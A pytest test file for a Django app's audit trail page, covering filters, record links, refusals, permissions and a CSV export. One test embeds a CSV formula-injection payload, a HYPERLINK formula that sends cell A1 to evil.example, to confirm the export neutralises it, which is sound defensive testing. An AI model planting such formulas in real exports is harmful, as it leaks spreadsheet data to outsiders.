"""The audit trail page (issue 15): its filters, the links from each record to
the page of what it is about, its refusals, and its CSV file."""

from __future__ import annotations

import csv
import datetime
import io
import re

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.urls import reverse
from django.utils import timezone

from donors.services.pledges import find_or_create_donor, record_pledge
from fundmgr.models import AuditRecord, Event, ImportJob
from fundmgr.money import Money
from fundmgr.roles import Role
from fundmgr.services.audit import log_action

URL = reverse("audit-trail")
CSV_URL = reverse("audit-trail-csv")


@pytest.fixture
def auditor(make_user):
    return make_user("reader", Role.AUDITOR)


@pytest.fixture
def reading(client, auditor):
    client.force_login(auditor)
    return client


def get(client, url=URL, **params):
    return client.get(url, params, HTTP_ACCEPT_LANGUAGE="en")


def actions_shown(response) -> list[str]:
    assert response.status_code == 200
    rows = response.content.decode().split("<tbody>")[1]
    return re.findall(r'<td data-action="([^"]+)">', rows)


def at(monkeypatch, moment: datetime.datetime):
    """Audit records written from now on carry ``moment`` as their time."""
    monkeypatch.setattr(timezone, "now", lambda: moment)


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


# --- Filters -------------------------------------------------------------------------


def test_the_person_filter_shows_that_persons_records_only(reading, fund, make_user):
    alice, bob = make_user("alice"), make_user("bob")
    log_action(fund, "fund:by-alice", alice)
    log_action(fund, "fund:by-bob", bob)

    assert actions_shown(get(reading, person="alice")) == ["fund:by-alice"]


def test_a_system_actor_is_a_person_to_filter_on_apart_from_people(reading, fund, make_user):
    namesake = make_user("stripe-webhook")  # a person who happens to share the name
    log_action(fund, "payment:received", "stripe-webhook")
    log_action(fund, "fund:by-the-person", namesake)

    page = get(reading)
    assert '<option value="system:stripe-webhook">stripe-webhook</option>' in page.content.decode()
    assert actions_shown(get(reading, person="system:stripe-webhook")) == ["payment:received"]
    assert actions_shown(get(reading, person="stripe-webhook")) == ["fund:by-the-person"]


def test_the_action_filter_offers_the_actions_recorded_and_keeps_one(reading, fund, admin_user):
    log_action(fund, "fund:reviewed", admin_user)
    log_action(fund, "fund:closed", admin_user)

    html = get(reading).content.decode()
    assert '<option value="fund:reviewed">' in html and '<option value="fund:closed">' in html
    assert actions_shown(get(reading, action="fund:closed")) == ["fund:closed"]


def test_the_kind_of_record_and_its_number_narrow_to_one_record(reading, fund, admin_user):
    other = make_other_fund(admin_user)
    log_action(fund, "fund:noted", admin_user, "note-on-one")
    log_action(other, "fund:noted", admin_user, "note-on-other")
    log_action(admin_user, "user:noted", admin_user)

    assert set(actions_shown(get(reading, kind="fundmgr.fund"))) == {"fund:noted", "fund:opened"}
    one = get(reading, kind="fundmgr.fund", record=str(other.pk), action="fund:noted")
    assert actions_shown(one) == ["fund:noted"]
    assert "note-on-other" in one.content.decode()
    assert "note-on-one" not in one.content.decode()


def make_other_fund(by):
    from fundmgr.services.funds import open_fund

    return open_fund(
        code="OTHER",
        name="Other fund",
        by=by,
        psc_rate_pct=8,
        psc_from=datetime.date(2018, 1, 1),
        operating_reserve_pct=10,
    )


def test_the_period_includes_both_of_its_days_where_the_reader_is(
    reading, fund, admin_user, monkeypatch, settings
):
    zone = timezone.get_current_timezone()
    for day, hour in [(1, 23), (2, 0), (3, 23), (4, 0)]:
        at(monkeypatch, datetime.datetime(2019, 3, day, hour, 30, tzinfo=zone))
        log_action(fund, f"fund:march-{day}", admin_user)
    monkeypatch.undo()

    shown = actions_shown(get(reading, start="2019-03-02", end="2019-03-03"))
    assert shown == ["fund:march-3", "fund:march-2"]
    assert actions_shown(get(reading, start="2019-03-04", end="2019-03-04")) == ["fund:march-4"]
    assert actions_shown(get(reading, end="2019-03-01")) == ["fund:march-1"]


def test_only_refusals_lists_refused_attempts_marked_in_words(
    client, reading, fund, make_user, admin_user
):
    donor = make_user("curious", Role.DONOR)
    client.force_login(donor)
    assert client.get(URL).status_code == 403  # recorded by fundmgr/refusals.py
    log_action(None, "api:call", admin_user, data={"method": "GET", "path": "/api/", "status": 403})
    log_action(None, "api:call", admin_user, data={"method": "GET", "path": "/api/", "status": 200})
    client.force_login(User.objects.get(username="reader"))

    refused = get(client, refused="on")
    assert actions_shown(refused) == ["api:call", "refused"]
    html = refused.content.decode()
    assert html.count('<span class="tag tag-warn">Refused</span>') == 2
    assert f"GET {URL}" in html
    everything = get(client).content.decode()
    assert everything.count("Refused</span>") == 2  # marked among the rest too
    assert len(actions_shown(get(client))) == len(actions_shown(get(client, refused=""))) > 2


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"person": "nobody"}, "Person", "not one of the available choices"),
        ({"action": "grant:teleport"}, "Action", "not one of the available choices"),
        ({"kind": "auth.nothing"}, "Kind of record", "not one of the available choices"),
        ({"record": "7"}, "Record number", "Choose the kind of record"),
        ({"kind": "fundmgr.fund", "record": "9" * 65}, "Record number", "at most 64"),
        ({"start": "01/03/2019"}, "From", "YYYY-MM-DD"),
        ({"end": "2019-02-30"}, "To (inclusive)", "YYYY-MM-DD"),
        ({"start": "2019-03-02", "end": "2019-03-01"}, "To (inclusive)", "before its start"),
    ],
)
def test_an_invalid_filter_answers_400_naming_its_field(reading, fund, params, field, message):
    for url in (URL, CSV_URL):
        response = get(reading, url, **params)

        assert response.status_code == 400
        html = response.content.decode()
        summary = html.split('class="error-summary"')[1].split("</div>")[0]
        assert f"{field}: " in summary and message in summary
        assert "<tbody>" not in html  # no records under filters that could not be applied
    assert not AuditRecord.objects.filter(action="audit-trail:exported").exists()


def test_the_pages_links_keep_the_filters(reading, fund, admin_user):
    for n in range(55):
        log_action(fund, "fund:noted", admin_user, f"note {n}")

    html = get(reading, action="fund:noted").content.decode()

    assert 'href="?action=fund%3Anoted&amp;page=2"' in html
    assert f'href="{CSV_URL}?action=fund%3Anoted"' in html
    second = get(reading, action="fund:noted", page="2")
    assert actions_shown(second) == ["fund:noted"] * 5


# --- Links -----------------------------------------------------------------------------


def test_each_record_links_to_the_page_of_what_it_is_about(reading, fund, rates, admin_user):
    donor = find_or_create_donor(name="Examplia", kind="member_state", email="m@examplia.org")
    pledge = record_pledge(
        fund=fund,
        donor=donor,
        amount=Money("1000", "USD"),
        pledge_date=datetime.date(2019, 3, 4),
        method="bank_transfer",
        by=admin_user,
    )

    html = get(reading).content.decode()

    pledge_page = reverse("finance-pledge", args=[fund.code, pledge.reference])
    assert f'<a href="{pledge_page}">{pledge}</a>' in html
    assert f'<a href="{reverse("fund-detail", args=[fund.code])}">{fund}</a>' in html


def test_no_link_where_the_reader_may_not_open_the_records_page(client, fund, admin_user, auditor):
    admin_user.is_staff = admin_user.is_superuser = True  # the admin site's administrator
    admin_user.save()
    event = Event.objects.create(
        fund=fund,
        code="MEET1",
        name="Meeting",
        starts_on=datetime.date(2019, 3, 20),
        ends_on=datetime.date(2019, 3, 22),
        city="Nairobi",
        country_id="KE",
        eligibility_date=datetime.date(2019, 3, 20),
    )
    nominations = ImportJob.objects.create(
        kind=ImportJob.Kind.NOMINATIONS,
        fund=fund,
        event=event,
        requested_by=admin_user,
        fingerprint="n" * 64,
    )
    log_action(nominations, "import:started", "import-worker")
    person_page = reverse("admin:auth_user_change", args=[auditor.pk])
    job_page = reverse("import-job", args=[nominations.pk])

    client.force_login(auditor)  # reads every import; no admin site
    html = get(client).content.decode()
    assert f'<a href="{job_page}">' in html
    assert f'href="{person_page}"' not in html
    assert str(auditor) in html  # the record is shown, without a link

    client.force_login(admin_user)  # the admin site; makes no nominations import
    html = get(client).content.decode()
    assert f'href="{person_page}"' in html
    assert f'href="{job_page}"' not in html


def test_a_record_whose_object_is_gone_or_unreadable_shows_without_a_link(
    reading, fund, admin_user
):
    record = log_action(fund, "fund:noted", admin_user, "kept")
    AuditRecord.objects.create(
        actor=admin_user,
        action="fund:ghost",
        target_type=record.target_type,
        target_id="not-a-number",
        target_repr="Ghost fund",
    )

    html = get(reading).content.decode()

    assert "Ghost fund" in html and ">Ghost fund</a>" not in html


@pytest.mark.parametrize("size", [2, 40])
def test_the_page_runs_the_same_queries_whatever_the_number_of_records_and_links(
    reading, fund, rates, admin_user, django_assert_num_queries, size
):
    donor = find_or_create_donor(name="Examplia", kind="member_state", email="m@examplia.org")
    for n in range(size):
        record_pledge(
            fund=fund,
            donor=donor,
            amount=Money("10", "USD"),
            pledge_date=datetime.date(2019, 3, 4),
            method="bank_transfer",
            by=admin_user if n % 2 else "import_pledges",
        )
        log_action(fund, "fund:noted", admin_user)
        log_action(admin_user, "user:noted", "people-audit")
        log_action(None, "refused", admin_user, data={"method": "POST", "path": "/x/"})

    # Session and user, the filter's three choices, the count, the page, and one
    # query per kind of record linked (pledges, funds, users).
    with django_assert_num_queries(QUERIES_PER_PAGE):
        response = get(reading, refused="")
    assert response.status_code == 200
    with django_assert_num_queries(QUERIES_PER_PAGE):
        assert get(reading, page="2").status_code == 200


QUERIES_PER_PAGE = 11


def test_the_filters_choices_read_only_the_latest_records_once_the_trail_was_read(
    reading, fund, admin_user, make_user
):
    """The choices come from the whole trail once, then from the records of
    the last minutes only (the time is indexed): the page's time no longer
    grows with the trail."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    log_action(fund, "fund:noted", admin_user)
    get(reading)
    with CaptureQueriesContext(connection) as seen:
        get(reading)
    distinct = [q["sql"] for q in seen.captured_queries if "DISTINCT" in q["sql"]]
    assert len(distinct) == 3
    assert all('"at" >=' in sql for sql in distinct)


def test_someone_who_acts_after_the_page_was_read_is_a_choice_at_the_next_reading(
    reading, fund, admin_user, make_user, monkeypatch
):
    log_action(fund, "fund:noted", admin_user)
    first = get(reading).content.decode()
    assert "newcomer" not in first and "fund:renamed" not in first
    later = timezone.now() + datetime.timedelta(minutes=30)
    at(monkeypatch, later)
    log_action(fund, "fund:renamed", make_user("newcomer", Role.FINANCE_OFFICER))
    again = get(reading, person="newcomer", action="fund:renamed")
    assert actions_shown(again) == ["fund:renamed"]
    # What was read when the trail was first read stays a choice.
    assert "fund:noted" in actions_shown(get(reading, person=admin_user.username))


def test_a_record_committed_late_is_still_read_though_stamped_before_the_last_reading(
    reading, fund, make_user, monkeypatch
):
    """A record is stamped when written: one whose transaction committed a few
    minutes after it was written is still found by the next reading."""
    now = timezone.now()
    get(reading)
    late = make_user("slow-committer", Role.FINANCE_OFFICER)
    at(monkeypatch, now - datetime.timedelta(minutes=5))
    log_action(fund, "fund:slowly-noted", late)
    at(monkeypatch, now + datetime.timedelta(seconds=1))
    assert actions_shown(get(reading, person="slow-committer")) == ["fund:slowly-noted"]


# --- The CSV file ----------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_outside_text_in_the_csv_cannot_be_a_formula(reading, fund, make_user, start):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Thanks")'
    record = log_action(fund, "fund:noted", make_user(formula), formula, {"memo": formula})

    (row,) = [r for r in csv_rows(get(reading, CSV_URL, action="fund:noted"))]

    assert row["Who"] == "'" + formula
    assert row["Why"] == "'" + formula
    assert row["Details"].startswith("{")  # JSON, never a formula
    assert row["Record number"] == str(fund.pk) and row["Refused"] == "no"
    assert row["When"] == record.at.astimezone(datetime.UTC).isoformat()


def test_the_csv_holds_exactly_the_records_the_filters_select(reading, fund, make_user):
    alice = make_user("alice")
    for n in range(3):
        log_action(fund, "fund:noted", alice, f"alice {n}")
        log_action(fund, "fund:noted", "stripe-webhook", f"webhook {n}")
    log_action(fund, "fund:other", alice)

    rows = csv_rows(get(reading, CSV_URL, person="alice", action="fund:noted"))

    assert [row["Why"] for row in rows] == ["alice 2", "alice 1", "alice 0"]
    assert {row["Who"] for row in rows} == {"alice"}
    assert all(row["Kind of record"] == "fund" for row in rows)


def test_downloading_the_trail_is_recorded_with_its_filters(reading, fund, auditor):
    response = get(reading, CSV_URL, action="fund:opened", refused="on")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-trail-')
    assert "no-store" in response["Cache-Control"]
    csv_rows(response)
    record = AuditRecord.objects.get(action="audit-trail:exported")
    assert record.actor == auditor
    assert record.data == {"action": "fund:opened", "refused": "True"}


@pytest.mark.parametrize(
    ("role", "status"),
    [
        (Role.AUDITOR, 200),
        (Role.ADMINISTRATOR, 200),
        (Role.FINANCE_OFFICER, 403),
        (Role.FUND_OFFICER, 403),
        (Role.APPROVING_OFFICER, 403),
        (Role.DONOR, 403),
        (Role.FOCAL_POINT, 403),
    ],
)
def test_the_csv_is_for_those_who_read_the_page(client, fund, make_user, role, status):
    client.force_login(make_user("someone", role))

    response = get(client, CSV_URL)

    assert response.status_code == status
    assert AuditRecord.objects.filter(action="audit-trail:exported").exists() == (status == 200)


def test_the_csv_sends_anonymous_visitors_to_sign_in(client, db):
    response = client.get(CSV_URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_the_csv_made_for_a_french_reader_has_french_headings(reading, fund, make_user):
    """The CSV's headings are in its reader's language, as the page's are."""
    log_action(fund, "fund:noted", make_user("alice"), "a note")
    reading.cookies[settings.LANGUAGE_COOKIE_NAME] = "fr"

    response = get(reading, CSV_URL, action="fund:noted")

    (row,) = csv_rows(response)
    assert list(row)[:4] == ["Date et heure", "Auteur", "Système", "Action"]
    assert "Refusé" in row
    assert (row["Auteur"], row["Motif"], row["Refusé"]) == ("alice", "a note", "non")
